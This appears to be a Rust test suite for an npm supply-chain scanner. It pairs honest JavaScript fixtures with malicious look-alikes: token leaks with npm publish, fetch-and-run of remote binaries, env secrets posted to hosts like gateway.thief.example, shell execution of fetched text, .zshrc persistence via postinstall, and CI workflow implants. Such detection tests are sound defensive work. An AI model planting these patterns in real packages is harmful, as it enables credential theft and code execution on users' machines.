//! Honest code that once was held, each time beside the attack it resembles: what tells them apart is one behaviour.
//! It knows no real package.
use crate::common::{clean, flagged, imported, installed, package, raw, run};
use cleanbill_js::{Analysis, compare};
use cleanbill_model::Level::{Block, Quarantine};

fn program(code: &str) -> Analysis {
    run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","bin":{"case":"cli.js"}}"#,
        ),
        ("cli.js", code),
    ]))
}

const PUBLISHES: &str = "const cp=require('child_process'),fs=require('fs');\
    function publish(){fs.writeFileSync('package.json','{}');fs.writeFileSync('.npmrc','//registry.example/:_authToken='+process.env.NPM_TOKEN);\
    cp.execSync('npm publish --access public',{env:{TOKEN:process.env.NPM_TOKEN}})}";

#[test]
fn a_tool_for_releases_publishes_at_its_users_word() {
    clean(&imported(&format!("{PUBLISHES} exports.publish=publish")));
    clean(&program(&format!("{PUBLISHES} publish()")));
    flagged(&imported(&format!("{PUBLISHES} publish()")), "FLO-08", Block);
    flagged(&installed(&format!("{PUBLISHES} publish()")), "FLO-08", Block);
}

#[test]
fn a_library_that_starts_to_publish_is_held() {
    let with = |code: &str| imported(&format!("{code} exports.pad=(s)=>s.padStart(8)"));
    let (before, after) = (with(""), with(&format!("{PUBLISHES} exports.publish=publish;")));
    assert!(compare(&before, &after).level >= Some(Quarantine));
    assert!(compare(&after, &after).level < Some(Quarantine));
}

#[test]
fn a_question_asked_first_makes_no_tool_worse() {
    let with = |code: &str| imported(&format!("{code} exports.pad=(s)=>s.padStart(8)"));
    let publishes =
        "exports.publish=()=>{if(process.env.CI)require('child_process').execSync('npm publish')};";
    let asked = with(publishes);
    let told = asked
        .chains
        .iter()
        .find(|chain| chain.id == "FLO-08")
        .expect("it publishes");
    assert!(told.aggravations.iter().any(|id| id == "ANT-01"), "{told:?}");
    let plain = publishes.replace("if(process.env.CI)", "");
    assert_eq!(
        compare(&with(""), &asked).level,
        compare(&with(""), &with(&plain)).level
    );
}

#[test]
fn a_program_may_fetch_its_helper_from_its_makers_host() {
    let fetches = |host: &str| {
        format!(
            "const fs=require('fs'),cp=require('child_process');\
             fetch('https://{host}/helper').then(r=>r.arrayBuffer()).then(b=>{{fs.writeFileSync('/opt/case/helper',Buffer.from(b));cp.spawn('/opt/case/helper',[])}})"
        )
    };
    clean(&program(&fetches("cdn.maker.example")));
    flagged(&installed(&fetches("cdn.maker.example")), "FLO-06", Block);
    flagged(&imported(&fetches("cdn.maker.example")), "FLO-06", Block);
    flagged(&program(&fetches("203.0.113.9")), "FLO-06", Block);
}

const SIGNS_IN: &str = "async function signIn(){const found=await (await fetch('https://login.acme.example/.well-known')).json();\
    return fetch(found.token_endpoint,{method:'POST',body:JSON.stringify({a:process.env.APP_CLIENT_SECRET,b:process.env.OTHER_PASSWORD})})}";

#[test]
fn a_service_tells_a_caller_where_to_sign_in() {
    let manifest =
        r#"{"name":"case","version":"1.0.0","main":"index.js","homepage":"https://docs.acme.example/"}"#;
    let with = |code: &str| run(package(&[("package.json", manifest), ("index.js", code)]));
    clean(&with(&format!("{SIGNS_IN} exports.signIn=signIn")));
    flagged(&with(&format!("{SIGNS_IN} signIn()")), "FLO-01", Quarantine);
    let stranger = SIGNS_IN.replace("login.acme.example", "203.0.113.9");
    flagged(
        &with(&format!("{stranger} exports.signIn=signIn")),
        "FLO-01",
        Quarantine,
    );
}

#[test]
fn two_spellings_of_a_variable_are_one_secret() {
    let sends = |second: &str| {
        imported(&format!(
            "exports.go=()=>fetch('https://in.other.example/',{{body:process.env.ACME_TOKEN||process.env.{second}}})"
        ))
    };
    clean(&sends("acme_token"));
    flagged(&sends("BANK_PASSWORD"), "FLO-01", Quarantine);
}

#[test]
fn a_secret_of_the_domain_vouches_for_the_service_under_it() {
    let sends = |host: &str| {
        imported(&format!(
            "exports.go=()=>fetch('https://{host}/',{{headers:{{a:process.env.GATEWAY_API_KEY||process.env.ACME_OIDC_TOKEN||process.env.GATEWAY_PASSWORD}}}})"
        ))
    };
    clean(&sends("gateway.acme.example"));
    flagged(&sends("gateway.thief.example"), "FLO-01", Quarantine);
}

#[test]
fn a_file_that_a_program_only_reads_is_not_run() {
    let written = |command: &str| {
        imported(&format!(
            "const fs=require('fs'),cp=require('child_process');\
             fetch('https://stage.example/').then(r=>r.text()).then(t=>{{fs.writeFileSync('message.txt',t);cp.execFileSync({command})}})"
        ))
    };
    clean(&written("'git',['commit','-F','message.txt']"));
    clean(&written("'openssl',['req','-config','message.txt']"));
    flagged(&written("'sh',['message.txt']"), "FLO-06", Block);
    flagged(&written("'./message.txt',[]"), "FLO-06", Block);
}

#[test]
fn what_a_program_is_told_is_not_what_runs() {
    let starts = |call: &str| {
        imported(&format!(
            "const cp=require('child_process');fetch('https://stage.example/').then(r=>r.text()).then(t=>cp.spawn({call}))"
        ))
    };
    clean(&starts("process.env.EDITOR,['--where',t]"));
    flagged(&starts("t,['--where']"), "FLO-03", Quarantine);
    flagged(&starts("process.env.SHELL,['-c',t]"), "FLO-03", Quarantine);
}

#[test]
fn a_hook_that_loads_the_library_does_not_run_all_of_it() {
    let files = |hook: &str| {
        run(package(&[
            (
                "package.json",
                r#"{"name":"case","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node hook.js"}}"#,
            ),
            ("index.js", "module.exports=require('./completion')"),
            (
                "completion.js",
                "const fs=require('fs'),os=require('os');exports.complete=()=>fs.appendFileSync(os.homedir()+'/.zshrc','source x')",
            ),
            ("hook.js", hook),
        ]))
    };
    clean(&files(
        "const c=require('./completion');console.log(typeof c.complete)",
    ));
    flagged(&files("require('./completion').complete()"), "PER-01", Block);
    let own = installed(
        "const fs=require('fs'),os=require('os');exports.x=()=>fs.appendFileSync(os.homedir()+'/.zshrc','source x')",
    );
    flagged(&own, "PER-01", Block);
}

#[test]
fn sources_that_travel_along_may_grow() {
    let with = |path: &str, more: &str| {
        let body = "function first(text){return text.trim().padStart(8)}\n\
            function second(text){return text.trim().padEnd(8)}\n\
            function third(text){return text.trim().repeat(8)}\n";
        let text = format!("{body}exports.all=[first,second,third];\n{more}");
        let manifest = r#"{"name":"case","version":"1.0.0","main":"lib/main.js"}"#;
        let main = ("lib/main.js", "exports.x=require('./used')");
        run(package(&[("package.json", manifest), main, (path, &text)]))
    };
    let counted = |path: &str| {
        let (before, after) = (
            with(path, ""),
            with(path, "function fourth(text){return text.trim().slice(8)}\n"),
        );
        compare(&before, &after)
            .changes
            .iter()
            .any(|change| change.counts && change.note.contains("was added at the end"))
    };
    assert!(!counted("src/travels.js"));
    assert!(counted("lib/used.js"));
}

#[test]
fn loading_json_reads_it() {
    let loads = |name: &str| {
        imported(&format!(
            "const fs=require('fs');fetch('https://stage.example/list').then(r=>r.text()).then(t=>{{fs.writeFileSync('/var/case/{name}',t);exports.list=require('/var/case/{name}')}})"
        ))
    };
    clean(&loads("list.json"));
    flagged(&loads("list.js"), "FLO-06", Block);
}

#[test]
fn glue_of_a_module_makes_functions_when_it_is_called() {
    let glue = "const fs=require('fs');const bytes=fs.readFileSync(__dirname+'/a.wasm');const text=(p)=>String.fromCharCode(...bytes.subarray(p))";
    let with = |end: &str| {
        run(raw(&[
            (
                "package.json",
                br#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", format!("{glue};{end}").as_bytes()),
            ("a.wasm", b"\0asm\x01\0\0\0abcdefgh"),
        ]))
    };
    clean(&with("exports.made=(p)=>new Function(text(p))"));
    flagged(&with("new Function(text(8))()"), "FLO-05", Block);
}

#[test]
fn a_program_fills_in_a_template_for_its_user() {
    let with = |start: (&str, &str), template: (&str, &[u8])| {
        let manifest = format!(r#"{{"name":"case","version":"1.0.0",{}}}"#, start.0);
        let code = format!(
            "const fs=require('fs');const text=fs.readFileSync(__dirname+'/{}').toString();fs.writeFileSync('case.conf.js',text);require('case.conf.js')",
            template.0
        );
        run(raw(&[
            ("package.json", manifest.as_bytes()),
            (start.1, code.as_bytes()),
            (template.0, template.1),
        ]))
    };
    let bin = (r#""bin":{"case":"cli.js"}"#, "cli.js");
    let main = (r#""main":"index.js""#, "index.js");
    let text: (&str, &[u8]) = ("case.conf.ejs", b"module.exports = { folders: [<%- folders %>] }");
    clean(&with(bin, text));
    flagged(&with(main, text), "FLO-05", Block);
    flagged(
        &with(bin, ("icon.png", b"\x89PNG\r\n\x1a\n....console.log(1)")),
        "FLO-05",
        Block,
    );
}

#[test]
fn a_test_that_a_star_exports_is_nobodys_import() {
    let code = "require('fs').writeFileSync('.github/workflows/ci.yml','on: push')";
    let with = |exports: &str, path: &str| {
        let manifest = format!(r#"{{"name":"case","version":"1.0.0","exports":{{{exports}}}}}"#);
        run(package(&[("package.json", manifest.as_str()), (path, code)]))
    };
    clean(&with(r#""./lib/*":"./lib/*.js""#, "lib/writer.test.js"));
    flagged(
        &with(r#""./lib/*":"./lib/*.js""#, "lib/writer.js"),
        "AIX-05",
        Block,
    );
    flagged(
        &with(r#"".":"./lib/writer.test.js""#, "lib/writer.test.js"),
        "AIX-05",
        Block,
    );
}

#[test]
fn a_workflow_in_a_passing_folder_is_no_implant() {
    let writes = |folder: &str| {
        installed(&format!(
            "require('fs').writeFileSync({folder}+'/.github/workflows/ci.yml','on: push')"
        ))
    };
    clean(&writes("require('os').tmpdir()+'/x'"));
    flagged(&writes("process.cwd()"), "AIX-05", Block);
}

#[test]
fn a_bundled_package_changes_with_its_next_release() {
    let with = |version: &str, more: &str| {
        let body = "function first(text){return text.trim().padStart(8)}\n\
            function second(text){return text.trim().padEnd(8)}\n\
            function third(text){return text.trim().repeat(8)}\n";
        let inner = format!(r#"{{"name":"pad","version":"{version}"}}"#);
        let code = format!("{body}exports.all=[first,second,third];\n{more}");
        run(package(&[
            (
                "package.json",
                r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", "module.exports=require('./node_modules/pad/pad.js')"),
            ("node_modules/pad/package.json", inner.as_str()),
            ("node_modules/pad/pad.js", code.as_str()),
        ]))
    };
    let counted = |version: &str| {
        let (before, after) = (
            with("1.0.0", ""),
            with(version, "function fourth(text){return text.trim().slice(8)}\n"),
        );
        let delta = compare(&before, &after);
        delta
            .changes
            .iter()
            .any(|change| change.counts && change.note.contains("was added at the end"))
    };
    assert!(!counted("1.0.1"));
    assert!(counted("1.0.0"));
}
